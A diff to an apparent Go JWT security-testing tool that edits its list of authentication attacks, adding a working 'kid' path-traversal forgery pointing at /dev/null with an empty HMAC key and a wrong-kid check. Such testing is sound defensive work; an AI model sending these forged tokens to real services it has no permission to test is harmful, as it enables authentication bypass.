@@ -40,19 +40,20 @@ func authAttacks() []Attack {
 				parts := strings.Split(valid, ".")
 				return segment(header(valid)) + "." + segment(claims) + "." + parts[2], "payload edited, signature kept", nil
 			}),
-		jwtAttack("jwt-unknown-kid", "CWE-347", "Point kid at a key the server does not have.",
+		jwtAttack("jwt-kid-injection", "CWE-347", "Point kid at /dev/null and sign with an empty key, for servers that read keys from files.",
 			func(_ *Target, valid string, claims map[string]any) (string, string, error) {
 				h := header(valid)
-				h["kid"] = "../../../../dev/null"
-				parts := strings.Split(valid, ".")
-				return segment(h) + "." + segment(claims) + "." + parts[2], "kid path traversal, old signature", nil
+				h["kid"] = "../../../../../../dev/null"
+				return encode(h, claims, sha256.New, ""), "kid ../../dev/null, empty HMAC key", nil
 			}),
-		jwtAttack("jwt-no-kid", "CWE-347", "Drop kid so a lenient server falls back to some default key.",
-			func(_ *Target, valid string, claims map[string]any) (string, string, error) {
+		jwtAttack("jwt-wrong-kid", "CWE-347", "Correct signature, but a kid the server has no key for: it must not try its keys in turn.",
+			func(t *Target, valid string, claims map[string]any) (string, string, error) {
+				if t.SigningKey == nil {
+					return "", "", errNeedKey
+				}
 				h := header(valid)
-				delete(h, "kid")
-				parts := strings.Split(valid, ".")
-				return segment(h) + "." + segment(claims) + "." + parts[2], "kid removed", nil
+				h["kid"] = "retired-2019"
+				return encode(h, claims, sha256.New, string(t.SigningKey)), "kid retired-2019, signed with the real key", nil
 			}),
 		jwtAttack("jwt-attacker-key", "CWE-347", "Sign the token with a key the attacker made up.",
 			func(_ *Target, valid string, claims map[string]any) (string, string, error) {
